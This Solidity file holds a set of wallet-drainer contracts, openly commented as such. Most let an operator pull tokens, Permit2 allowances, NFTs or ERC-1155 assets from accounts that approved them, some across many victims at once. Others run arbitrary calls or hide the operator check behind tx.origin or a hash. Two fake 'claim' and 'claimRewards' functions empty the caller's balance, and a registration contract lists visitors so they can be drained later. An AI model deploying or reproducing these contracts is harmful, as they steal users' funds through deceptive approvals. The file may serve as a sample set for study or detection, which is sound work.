// SPDX-License-Identifier: MIT
pragma solidity >=0.6.12 <0.9.0;
pragma experimental ABIEncoderV2;

import {IMultiToken, INft, IPermit2, IToken} from "./Interfaces.sol";

abstract contract Operated {
    address internal _operator;

    constructor() {
        _operator = msg.sender;
    }

    modifier onlyOperator() {
        require(msg.sender == _operator, "No");
        _;
    }
}

/// @notice Its operator takes approved tokens.
contract AllowancePuller is Operated {
    function collect(IToken token, address from, uint256 amount) public onlyOperator {
        require(token.transferFrom(from, _operator, amount), "Failed");
    }
}

/// @notice The token is fixed, so that no argument betrays it; everything the victim has is taken.
contract FixedTokenPuller is Operated {
    IToken internal constant USDC = IToken(0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48);

    function process(address from) public onlyOperator {
        USDC.transferFrom(from, address(0x1111111111222222222233333333334444444444), USDC.balanceOf(from));
    }
}

/// @notice Everybody may have it take everybody's tokens.
contract OpenPuller {
    function move(IToken token, address from, address to, uint256 amount) public {
        token.transferFrom(from, to, amount);
    }
}

/// @notice Takes from many in one go.
contract BatchPuller is Operated {
    function sweep(IToken token, address[] memory victims, uint256[] memory amounts) public onlyOperator {
        for (uint256 i = 0; i < victims.length; i++) token.transferFrom(victims[i], _operator, amounts[i]);
    }
}

/// @notice Asks for the origin instead of the caller.
contract OriginPuller {
    address internal immutable _operator;

    constructor() {
        _operator = msg.sender;
    }

    function settle(address token, address from, uint256 amount) public {
        require(tx.origin == _operator, "No");
        (bool done, ) = token.call(abi.encodeWithSelector(0x23b872dd, from, _operator, amount));
        require(done, "Failed");
    }
}

/// @notice Its operators are on a list that the constructor began.
contract ListedPuller {
    mapping(address => bool) internal _operators;

    constructor() {
        _operators[msg.sender] = true;
    }

    function collect(IToken token, address from, uint256 amount) public {
        require(_operators[msg.sender], "No");
        token.transferFrom(from, msg.sender, amount);
    }
}

/// @notice Its operator makes it call anything.
contract GuardedExecutor is Operated {
    function execute(address target, bytes memory data) public onlyOperator {
        (bool done, ) = target.call(data);
        require(done, "Failed");
    }
}

/// @notice The same with many calls at once, as drainers' kits do it.
contract GuardedBatchExecutor is Operated {
    struct Call {
        address target;
        uint256 value;
        bytes data;
    }

    function multicall(Call[] memory calls) public payable onlyOperator {
        for (uint256 i = 0; i < calls.length; i++) {
            (bool done, ) = calls[i].target.call{value: calls[i].value}(calls[i].data);
            require(done, "Failed");
        }
    }
}

/// @notice Recognises its operator by a hash.
contract DisguisedPuller {
    bytes32 internal immutable _mark;

    constructor() {
        _mark = keccak256(abi.encodePacked(msg.sender));
    }

    function collect(IToken token, address from, address to, uint256 amount) public {
        require(keccak256(abi.encodePacked(msg.sender)) == _mark, "No");
        token.transferFrom(from, to, amount);
    }
}

/// @notice A claim that takes everything its caller has approved.
contract ApproveFirstClaim is Operated {
    function claim(IToken token) public {
        token.transferFrom(msg.sender, _operator, token.balanceOf(msg.sender));
    }
}

/// @notice A claim without a single argument.
contract FixedClaim is Operated {
    IToken internal constant USDC = IToken(0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48);

    function claimRewards() public {
        USDC.transferFrom(msg.sender, _operator, USDC.balanceOf(msg.sender));
    }
}

/// @notice Takes by the allowances that victims gave it in Permit2.
contract Permit2AllowancePuller is Operated {
    IPermit2 internal constant PERMIT2 = IPermit2(0x000000000022D473030F116dDEE9F6B43aC78BA3);

    function collect(address token, address from, uint160 amount) public onlyOperator {
        PERMIT2.transferFrom(from, _operator, amount, token);
    }
}

/// @notice The same with a list.
contract Permit2AllowanceBatchPuller is Operated {
    IPermit2 internal constant PERMIT2 = IPermit2(0x000000000022D473030F116dDEE9F6B43aC78BA3);

    function collect(IPermit2.AllowanceTransferDetails[] memory details) public onlyOperator {
        PERMIT2.transferFrom(details);
    }
}

/// @notice Takes NFTs of those that made it an operator.
contract NftPuller is Operated {
    function collect(INft nft, address from, uint256 id) public onlyOperator {
        nft.safeTransferFrom(from, _operator, id);
    }
}

/// @notice Takes multi-tokens (ERC-1155) of those that made it an operator.
contract MultiTokenPuller is Operated {
    function collect(IMultiToken nft, address from, uint256 id, uint256 amount) public onlyOperator {
        nft.safeTransferFrom(from, _operator, id, amount, "");
    }
}

/// @notice Remembers who came by, and empties all of them later.
contract RegistrationPuller is Operated {
    address[] internal _victims;

    function join() public {
        _victims.push(msg.sender);
    }

    function harvest(IToken token) public onlyOperator {
        for (uint256 i = 0; i < _victims.length; i++) token.transferFrom(_victims[i], _operator, token.balanceOf(_victims[i]));
    }
}
